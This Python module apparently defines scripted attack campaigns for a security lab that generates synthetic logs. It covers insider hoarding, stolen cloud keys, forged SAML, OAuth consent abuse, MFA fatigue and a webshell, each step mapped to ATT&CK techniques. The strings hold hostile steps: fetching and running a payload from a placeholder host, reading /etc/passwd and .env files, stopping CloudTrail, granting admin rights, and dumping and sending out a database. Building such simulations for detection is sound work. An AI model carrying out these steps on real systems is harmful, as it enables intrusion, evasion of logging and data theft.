"""Campaigns that begin in a browser, at the identity provider, in the cloud, or on the web server."""

from __future__ import annotations

from nonself.lab.attacks.cloud_moves import Cloud, Fetch, Forge, Office, Okta
from nonself.lab.attacks.moves import Visit
from nonself.lab.attacks.plan import Campaign, Step
from nonself.lab.attacks.server_moves import Linux, Outward, Page
from nonself.lab.world.emit_cloud import Call
from nonself.lab.world.emit_saas import Seen

_TEAMS = ("finance", "sales", "engineering", "people", "purchasing", "operations")
_LOGIN, _PUSH = Seen("user.session.start"), (("factor", "OKTA_VERIFY_PUSH"),)
_DENIED = Seen("user.authentication.auth_via_mfa", "USER_REJECTED_OKTA_PUSH_VERIFY", detail=_PUSH)
_GRANTED = Seen("user.authentication.auth_via_mfa", detail=_PUSH)
_EXPORTS = "tidewell-billing-exports"


def _exports(months: int) -> tuple[str, ...]:
    return tuple(f"2025/{month:02d}/customers-{part}.parquet" for month in range(1, months + 1) for part in (1, 2))


INSIDER = (
    Step("own store emptied", "T1213.002", 0, Fetch(("sales",), 60, home=True, agent="chrome")),
    Step("other teams' stores", "T1213.002", 0, Fetch(_TEAMS, 140, home=True, agent="chrome"), clock=(1, 17.6)),
    Step("file server", "T1039", 0, Visit(("fs01",), own=True, got=1_400_000_000), clock=(1, 19.1)),
    Step("shared with oneself", "T1567.002", 0, Office("OneDrive", "SecureLinkCreated",
         "https://tidewell-my.sharepoint.com/personal/{login}/all-#.zip", 6, home=True, agent="chrome"), clock=(2, 18.2)),
    Step("fetched from home", "T1530", 0, Fetch(_TEAMS, 90, agent="chrome"), clock=(2, 21.4)),
    Step("mailbox forwarded", "T1114.003", 9, Office("Exchange", "New-InboxRule", "{login}\\fw", agent="chrome")),
)  # fmt: skip

KEY = (
    Step("stolen key tried", "T1078.004", 0, Cloud((Call("sts", "GetCallerIdentity"),))),
    Step("rights asked", "T1087.004", 2, Cloud((Call("iam", "GetUser"), Call("iam", "ListAttachedUserPolicies", error="AccessDenied"),
         Call("iam", "ListUsers", error="AccessDenied"), Call("iam", "ListRoles")))),
    Step("account looked through", "T1580", 3, Cloud((Call("ec2", "DescribeInstances"), Call("ec2", "DescribeSnapshots"),
         Call("rds", "DescribeDBInstances"), Call("lambda", "ListFunctions20150331"), Call("secretsmanager", "ListSecrets")))),
    Step("secrets read", "T1552", 6, Cloud(tuple(Call("secretsmanager", "GetSecretValue", {"secretId": name})
         for name in ("portal/db", "billing/api", "ingest/token", "deploy/key")))),
    Step("rights taken", "T1098.003", 8, Cloud((Call("iam", "AttachUserPolicy", {"userName": "svc_deploy",
         "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, read=False),))),
    Step("key made", "T1098.001", 3, Cloud((Call("iam", "CreateAccessKey", {"userName": "svc_deploy"}, read=False),))),
    Step("trail stopped", "T1562.008", 5, Cloud((Call("cloudtrail", "StopLogging", {"name": "main"}, read=False),))),
    Step("buckets listed", "T1619", 4, Cloud((Call("s3", "ListBuckets", {"Host": "s3.amazonaws.com"}),))),
    Step("objects fetched", "T1530", 5, Cloud((), _EXPORTS, "GetObject", _exports(12))),
)  # fmt: skip

SAML = (
    Step("assertion forged", "T1606.002", 0, Forge("administrator")),
    Step("who am i", "T1087.004", 1, Cloud((Call("sts", "GetCallerIdentity"), Call("iam", "ListRoles"), Call("iam", "ListUsers")),
         role=True)),
    Step("snapshot shared", "T1537", 12, Cloud((Call("ec2", "CreateSnapshot", read=False), Call("ec2", "ModifySnapshotAttribute",
         {"snapshotId": "snap-0c1d", "attributeType": "CREATE_VOLUME_PERMISSION"}, read=False)), role=True)),
    Step("second assertion", "T1606.002", 0, Forge("administrator"), clock=(1, 3.2)),
    Step("provider added", "T1484.002", 5, Cloud((Call("iam", "CreateSAMLProvider", {"name": "idp2"}, read=False),), role=True)),
    Step("objects fetched", "T1530", 9, Cloud((), _EXPORTS, "GetObject", _exports(9), role=True)),
)  # fmt: skip

CONSENT = (
    Step("consent given", "T1528", 0, Office("AzureActiveDirectory", "Consent to application.", "Mail Assistant Pro",
         home=True, agent="chrome")),
    Step("grant stored", "T1098.003", 0.1, Office("AzureActiveDirectory", "Add OAuth2PermissionGrant.", "Mail Assistant Pro",
         home=True, agent="chrome")),
    Step("mail read", "T1114.002", 4, Office("Exchange", "MailItemsAccessed", "Inbox", 90, 9.0, agent="script")),
    Step("files read", "T1213.002", 0, Fetch(_TEAMS, 70, agent="script"), clock=(1, 2.4)),
    Step("rule made", "T1564.008", 20, Office("Exchange", "New-InboxRule", "{login}\\.", agent="script")),
    Step("mail sent", "T1534", 0, Office("Exchange", "Send", "Invoice overdue #", 25, 5.0, agent="script"), clock=(1, 10.2)),
)  # fmt: skip

FATIGUE = (
    Step("password tried", "T1078.004", 0, Okta(_LOGIN)),
    Step("asked again and again", "T1621", 0.5, Okta(_DENIED, times=14, every=70)),
    Step("one granted", "T1621", 3, Okta(_GRANTED)),
    Step("second factor added", "T1098.005", 3, Okta(Seen("user.mfa.factor.activate", detail=(("factor", "OTP"),)))),
    Step("applications opened", "T1550.001", 2, Okta(Seen("user.authentication.sso", app="Payroll"), times=2)),
    Step("customers opened", "T1550.001", 1, Okta(Seen("user.authentication.sso", app="CRM"), times=2)),
    Step("mail looked through", "T1114.002", 6, Office("Exchange", "SearchQueryInitiatedExchange", "invoice bank iban", 4, 40.0)),
    Step("rule made", "T1564.008", 5, Office("Exchange", "New-InboxRule", "{login}\\..")),
    Step("files fetched", "T1213.002", 0, Fetch(_TEAMS[:2], 110), clock=(0, 22.3)),
)  # fmt: skip

SHELL = (
    Step("looked for", "T1595.003", 0, Page(("GET /admin/config.php", "GET /srv/up/", "GET /.env"), 404)),
    Step("stored", "T1505.003", 6, Page(("POST /support/upload",), 200, 9_000)),
    Step("first commands", "T1059.004", 3, Linux(("/bin/sh -c id", "/usr/bin/id", "/usr/bin/uname -a", "/bin/cat /etc/passwd"))),
    Step("called", "T1505.003", 0.2, Page(("POST /up/thumb.php",) * 7, 200)),
    Step("around", "T1046", 9, Linux(("/bin/sh -c ss -tnp", "/usr/bin/ss -tnp", "/sbin/ip addr", "/usr/bin/nc -zv 10.20.0.12 1433"))),
    Step("settings read", "T1552.001", 5, Linux(("/bin/cat /srv/portal/.env", "/usr/bin/find / -perm -4000 -type f"))),
    Step("helper fetched", "T1105", 4, Linux(("/usr/bin/curl -s -o /dev/shm/.{driver} https://{delivery}/b",
         "/bin/chmod +x /dev/shm/.{driver}", "/dev/shm/.{driver} -d"))),
    Step("helper calls", "T1071.001", 0.2, Outward("delivery", 1, 600)),
    Step("orders asked for", "T1071.001", 2, Outward("orders", 180, 900, 6.0)),
    Step("database read", "T1213.006", 0, Linux(("/usr/bin/mysqldump -h 10.20.0.12 crm", "/bin/gzip /dev/shm/{token}")), clock=(1, 2.8)),
    Step("dump sent", "T1041", 6, Outward("orders", 4, 60_000_000, 3.0)),
)  # fmt: skip

CAMPAIGNS = (
    Campaign("insider", "somebody about to leave hoards what other teams have", INSIDER, "leaver", 17.2),
    Campaign("cloud-key", "a stolen key, more rights, the trail stopped, customers' data", KEY, "office", 20.4),
    Campaign("golden-saml", "forged assertions for the cloud, never seen by the identity provider", SAML, "office", 1.7),
    Campaign("oauth-consent", "an application is given leave to read mail and files", CONSENT),
    Campaign("mfa-fatigue", "a password is known, and somebody tires of saying no", FATIGUE, "office", 19.6),
    Campaign("webshell", "a file on the web server that takes orders", SHELL, "office", 5.1),
)
